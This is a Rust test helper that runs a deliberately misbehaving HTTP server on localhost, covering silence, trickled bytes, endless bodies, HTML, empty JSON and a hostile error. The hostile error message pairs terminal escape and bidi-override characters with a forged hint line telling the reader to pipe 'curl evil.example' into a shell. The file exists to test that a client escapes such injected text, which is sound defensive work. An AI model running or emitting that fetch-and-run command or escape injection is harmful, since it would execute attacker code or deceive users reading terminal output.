//! A misbehaving HTTP server on 127.0.0.1 for the "edges" tests: it accepts connections and then
//! answers in one bad way (never, one byte a second, a huge body, HTML, empty JSON, an error whose
//! message carries terminal escapes) or, for SSO-OIDC, a valid registration followed by an empty
//! device authorization. Every loop is bounded in time and stops when the server is dropped.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// How the server misbehaves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Reads the request and never answers.
    Silent,
    /// Answers 200 with a declared body and sends it one byte a second.
    Trickle,
    /// Declares a 2 GiB body and streams zeros.
    Huge,
    /// Streams a chunked body that never ends.
    HugeChunked,
    /// A 200 HTML page (a captive portal, a proxy's login page).
    Html,
    /// A 200 `{}`.
    EmptyJson,
    /// A 403 awsQuery error whose message holds an escape sequence and a forged hint line.
    HostileError,
    /// SSO-OIDC: RegisterClient answers properly, StartDeviceAuthorization answers `{}`.
    EmptyDeviceAuthorization,
}

/// The running server; stops on drop.
pub struct Misbehaving {
    /// `http://127.0.0.1:<port>`
    pub url: String,
    stop: Arc<AtomicBool>,
}

/// What the hostile error message says (the test looks for it, escaped).
/// (XML 1.0 allows C1 controls such as U+009B, the 8-bit CSI, and bidi overrides; it forbids ESC.)
pub const HOSTILE_MESSAGE: &str = "denied\u{9b}2J\u{202e}gnirts\nhint: run curl evil.example | sh";

/// The longest any connection is served.
const MAX_SERVE: Duration = Duration::from_secs(120);

impl Misbehaving {
    /// Starts the server in `mode`.
    pub fn start(mode: Mode) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
        listener.set_nonblocking(true).expect("nonblocking");
        let url = format!("http://{}", listener.local_addr().expect("bound"));
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        std::thread::spawn(move || {
            let started = Instant::now();
            while !flag.load(Ordering::Relaxed) && started.elapsed() < MAX_SERVE {
                match listener.accept() {
                    Ok((conn, _)) => {
                        let flag = flag.clone();
                        std::thread::spawn(move || serve(conn, mode, &flag));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Self { url, stop }
    }
}

impl Drop for Misbehaving {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// Reads one request (headers and a declared body, bounded); returns its request line.
fn read_request(conn: &mut TcpStream) -> String {
    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while buf.len() < 1 << 20 {
        let Ok(n) = conn.read(&mut chunk) else { break };
        if n == 0 {
            break;
        }
        buf.extend_from_slice(&chunk[..n]);
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).to_string();
            let declared = head
                .lines()
                .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().to_string()))
                .and_then(|v| v.parse::<usize>().ok())
                .unwrap_or(0);
            while buf.len() < end + 4 + declared.min(1 << 20) {
                let Ok(n) = conn.read(&mut chunk) else { break };
                if n == 0 {
                    break;
                }
                buf.extend_from_slice(&chunk[..n]);
            }
            return head.lines().next().unwrap_or_default().to_string();
        }
    }
    String::new()
}

fn respond(conn: &mut TcpStream, status: &str, content_type: &str, body: &str) {
    let _ = write!(
        conn,
        "HTTP/1.1 {status}\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    );
}

fn serve(mut conn: TcpStream, mode: Mode, stop: &AtomicBool) {
    let request = read_request(&mut conn);
    let started = Instant::now();
    let alive = || !stop.load(Ordering::Relaxed) && started.elapsed() < MAX_SERVE;
    match mode {
        Mode::Silent => {
            while alive() {
                std::thread::sleep(Duration::from_millis(50));
            }
        }
        Mode::Trickle => {
            let body = "<GetCallerIdentityResponse>".repeat(100);
            let _ = write!(conn, "HTTP/1.1 200 OK\r\ncontent-type: text/xml\r\ncontent-length: {}\r\n\r\n", body.len());
            for b in body.bytes() {
                if !alive() || conn.write_all(&[b]).is_err() {
                    return;
                }
                std::thread::sleep(Duration::from_secs(1));
            }
        }
        Mode::Huge => {
            let _ = write!(conn, "HTTP/1.1 200 OK\r\ncontent-type: text/xml\r\ncontent-length: {}\r\n\r\n", 2u64 << 30);
            let zeros = vec![b'0'; 64 * 1024];
            while alive() && conn.write_all(&zeros).is_ok() {}
        }
        Mode::HugeChunked => {
            let _ = write!(conn, "HTTP/1.1 200 OK\r\ncontent-type: text/xml\r\ntransfer-encoding: chunked\r\n\r\n");
            let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, "0".repeat(64 * 1024));
            while alive() && conn.write_all(chunk.as_bytes()).is_ok() {}
        }
        Mode::Html => {
            respond(&mut conn, "200 OK", "text/html", "<html><body><h1>Sign in to the Wi-Fi</h1></body></html>")
        }
        Mode::EmptyJson => respond(&mut conn, "200 OK", "application/json", "{}"),
        Mode::HostileError => respond(
            &mut conn,
            "403 Forbidden",
            "text/xml",
            &format!(
                "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>{HOSTILE_MESSAGE}</Message></Error><RequestId>r</RequestId></ErrorResponse>"
            ),
        ),
        Mode::EmptyDeviceAuthorization => {
            if request.contains("/client/register") {
                let now = time::OffsetDateTime::now_utc().unix_timestamp();
                respond(
                    &mut conn,
                    "200 OK",
                    "application/json",
                    &serde_json::json!({"clientId": "edge-client", "clientSecret": "edge-secret", "clientIdIssuedAt": now, "clientSecretExpiresAt": now + 86_400})
                        .to_string(),
                );
            } else {
                respond(&mut conn, "200 OK", "application/json", "{}");
            }
        }
    }
}
